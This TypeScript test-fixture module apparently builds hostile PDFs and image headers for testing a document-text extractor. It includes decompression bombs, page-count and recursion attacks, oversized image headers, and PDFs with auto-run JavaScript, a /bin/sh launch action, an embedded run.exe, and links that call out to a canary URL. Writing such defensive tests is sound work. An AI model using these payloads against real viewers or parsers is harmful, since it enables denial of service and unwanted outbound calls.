import { deflateSync } from 'node:zlib'
import { flateBomb, inkContent, oneImage, onePage, pageText, rawPdf, stream, textContent } from './raw-pdf.ts'

/** How a document may end. `text`: with the text that stands on its pages. */
export type Ending =
  | 'text'
  | 'ocr'
  | 'blank'
  | 'PAGE_TOO_LARGE'
  | 'IMAGE_TOO_LARGE'
  | 'PAGE_UNREADABLE'
  | 'UNREADABLE'
  | 'OUT_OF_MEMORY'
  | 'TOO_MANY_PAGES'
  | 'NO_PAGES'

export interface HostileDocument {
  name: string
  bytes: Buffer
  endings: Ending[]
}

/** Documents that ask for more than there is, go round in circles, or call out, each with the endings that are right for it. */
export function hostileDocuments(canary: string): HostileDocument[] {
  return [...sizes(), ...counts(), ...bombs(), ...mazes(), ...images(), ...callers(canary)]
}

function make(name: string, bytes: Buffer, ...endings: Ending[]): HostileDocument {
  return { name, bytes, endings }
}

const drawn = stream(inkContent)

function sizes(): HostileDocument[] {
  const sized = (name: string, page: string, ...endings: Ending[]) => make(`${name}.pdf`, onePage({ content: drawn, page }), ...endings)
  return [
    sized('200-inches', '/MediaBox [0 0 14400 14400]', 'PAGE_TOO_LARGE'),
    sized('user-unit', '/MediaBox [0 0 400 300] /UserUnit 1000000', 'PAGE_TOO_LARGE'),
    sized('user-unit-nan', '/MediaBox [0 0 400 300] /UserUnit (many)', 'ocr', 'PAGE_UNREADABLE'),
    sized('box-negative', '/MediaBox [0 0 -400 -300]', 'ocr', 'PAGE_UNREADABLE'),
    sized('box-reversed', '/MediaBox [400 300 0 0]', 'ocr'),
    sized('box-of-words', '/MediaBox [0 0 nan null]', 'ocr', 'PAGE_UNREADABLE'),
    sized('box-endless', `/MediaBox [0 0 1${'0'.repeat(400)} 300]`, 'ocr', 'PAGE_TOO_LARGE', 'PAGE_UNREADABLE'),
    sized('box-empty', '/MediaBox [0 0 0 0]', 'ocr', 'PAGE_UNREADABLE'),
    sized('box-thin', '/MediaBox [0 0 14400 0.01]', 'PAGE_UNREADABLE'),
    sized('crop-elsewhere', '/MediaBox [0 0 400 300] /CropBox [9000 9000 9400 9300]', 'ocr', 'PAGE_UNREADABLE'),
  ]
}

function counts(): HostileDocument[] {
  const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R >>`
  const tree = (count: string, kids = '[3 0 R]') =>
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids ${kids} /Count ${count} >>`, page, drawn])
  return [
    make('count-of-a-million.pdf', tree('1000000'), 'ocr', 'TOO_MANY_PAGES', 'UNREADABLE'),
    make('count-negative.pdf', tree('-1'), 'ocr', 'UNREADABLE', 'NO_PAGES'),
    make('count-endless.pdf', tree(`1${'0'.repeat(400)}`), 'ocr', 'TOO_MANY_PAGES', 'UNREADABLE'),
    make('nested-million.pdf', nestedPages(1_000_000), 'TOO_MANY_PAGES', 'UNREADABLE'),
    make('nested-million-uncounted.pdf', nestedPages(-1), 'TOO_MANY_PAGES', 'UNREADABLE', 'NO_PAGES'),
    make('tree-in-a-circle.pdf', tree('5', '[2 0 R]'), 'UNREADABLE', 'NO_PAGES', 'PAGE_UNREADABLE'),
  ]
}

/** Six levels of ten, each node the same ten times over: a million pages in ten objects. */
function nestedPages(count: number): Buffer {
  const levels = 6
  const nodes = Array.from({ length: levels }, (_, level) => {
    const kids = Array(10)
      .fill(`${level + 3} 0 R`)
      .join(' ')
    return `<< /Type /Pages /Kids [${kids}] /Count ${count < 0 ? count : 10 ** (levels - level)} >>`
  })
  const page = `<< /Type /Page /MediaBox [0 0 400 300] /Contents ${levels + 3} 0 R >>`
  return rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...nodes, page, drawn])
}

const twice = '/Filter [/FlateDecode /FlateDecode]'
const image = (width: number, height: number, bits: number) =>
  `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent ${bits}`

function bombs(): HostileDocument[] {
  const bomb = flateBomb(10_000)
  let stacked: Buffer = Buffer.from(textContent)
  for (let filter = 0; filter < 25; filter += 1) stacked = deflateSync(stacked)
  return [
    make('bomb-of-content.pdf', onePage({ content: stream(bomb, twice) }), 'OUT_OF_MEMORY', 'PAGE_UNREADABLE'),
    make('bomb-of-image.pdf', oneImage(stream(bomb, `${image(2000, 1000, 8)} ${twice}`)), 'ocr', 'OUT_OF_MEMORY', 'PAGE_UNREADABLE'),
    make('filters.pdf', onePage({ content: stream(stacked, `/Filter [${'/FlateDecode '.repeat(25)}]`) }), 'text'),
    make('forms-in-forms.pdf', formsInForms(), 'OUT_OF_MEMORY', 'PAGE_UNREADABLE'),
  ]
}

/** Nine forms, each painting the next ten times. */
function formsInForms(): Buffer {
  const forms = Array.from({ length: 9 }, (_, level) => {
    const paint = level === 8 ? inkContent : '/X Do '.repeat(10)
    return stream(paint, `/Type /XObject /Subtype /Form /BBox [0 0 400 300] /Resources << /XObject << /X ${level + 7} 0 R >> >>`)
  })
  return onePage({ content: stream('/X Do'), resources: '/XObject << /X 6 0 R >>', more: forms })
}

function mazes(): HostileDocument[] {
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
  return [
    make('deep-in-page.pdf', onePage({ page: `/MediaBox [0 0 400 300] /Deep ${deep}` }), 'text', 'UNREADABLE', 'PAGE_UNREADABLE'),
    make('deep-in-catalogue.pdf', onePage({ catalog: `/Deep ${deep}` }), 'text', 'UNREADABLE'),
    make('deep-in-content.pdf', onePage({ content: stream(`${textContent} ${deep} TJ`) }), 'text', 'PAGE_UNREADABLE'),
    make('pattern-of-dust.pdf', patternOfDust(), 'ocr', 'PAGE_UNREADABLE'),
  ]
}

/** A pattern whose tiles lie so close that the page has a hundred million of them. */
function patternOfDust(): Buffer {
  const tile = '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 0.03 0.03] /XStep 0.03 /YStep 0.03 /Resources << >>'
  const content = stream('/Pattern cs /P0 scn 0 0 400 300 re f')
  return onePage({ content, resources: '/Pattern << /P0 6 0 R >>', more: [stream('0 0 0.01 0.03 re f', tile)] })
}

function images(): HostileDocument[] {
  const jpeg = jpegHeader(65_535, 65_535)
  return [
    make(
      'image-of-one-bit.pdf',
      oneImage(stream(deflateSync(Buffer.alloc(1e6)), `${image(65_535, 65_535, 1)} /Filter /FlateDecode`)),
      'IMAGE_TOO_LARGE',
    ),
    make('jpeg-in-pdf.pdf', oneImage(stream(jpeg, `${image(65_535, 65_535, 8)} /Filter /DCTDecode`)), 'IMAGE_TOO_LARGE', 'PAGE_UNREADABLE'),
    make(
      'jpeg-that-lies.pdf',
      oneImage(stream(jpeg, `${image(100, 100, 8)} /Filter /DCTDecode`)),
      'IMAGE_TOO_LARGE',
      'PAGE_UNREADABLE',
      'OUT_OF_MEMORY',
    ),
    make('header.png', pngHeader(2 ** 31 - 1, 2 ** 31 - 1), 'IMAGE_TOO_LARGE', 'UNREADABLE'),
    make('header-of-65535.png', pngHeader(65_535, 65_535), 'IMAGE_TOO_LARGE'),
    make('header.jpg', jpeg, 'IMAGE_TOO_LARGE'),
  ]
}

function pngHeader(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)])
  }
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(1e6))), chunk('IEND', Buffer.alloc(0))])
}

/** A baseline JPEG that stops after its header. */
function jpegHeader(width: number, height: number): Buffer {
  const size = [height >> 8, height & 255, width >> 8, width & 255]
  return Buffer.from([0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, ...size, 1, 1, 0x11, 0, 0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 0, 0xff, 0xd9])
}

/** Actions that a viewer would carry out, and parts that lie elsewhere. */
function callers(canary: string): HostileDocument[] {
  const script = `app.launchURL("${canary}"); this.submitForm("${canary}"); for (;;) {}`
  const actions = [
    `/OpenAction << /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) >>`,
    `/AA << /WC << /S /URI /URI (${canary}) >> /DS << /S /SubmitForm /F << /FS /URL /F (${canary}) >> >> >>`,
    '/Names << /EmbeddedFiles << /Names [(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>] >> >>',
  ]
  const links = [
    `<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << /S /URI /URI (${canary}) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << /S /Launch /F (/bin/sh) >> >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << /S /GoToR /F << /FS /URL /F (${canary}) >> /D [0 /Fit] >> >>`,
  ]
  const elsewhere = stream('', `${image(100, 100, 8)} /F << /FS /URL /F (${canary}) >>`)
  const page = `/MediaBox [0 0 400 300] /Annots [${links.join(' ')}] /AA << /O << /S /URI /URI (${canary}) >> >>`
  const parts = { page, catalog: actions.join(' '), resources: '/XObject << /Im0 7 0 R >>', more: [stream('MZ'), elsewhere] }
  return [
    make('calls-out.pdf', onePage(parts), 'text'),
    make(
      'calls-out-for-its-image.pdf',
      onePage({ ...parts, content: stream(`${inkContent} q 400 0 0 300 0 0 cm /Im0 Do Q`) }),
      'ocr',
      'PAGE_UNREADABLE',
    ),
  ]
}

/** What a document that is in order has on its only page. */
export const quietText = pageText
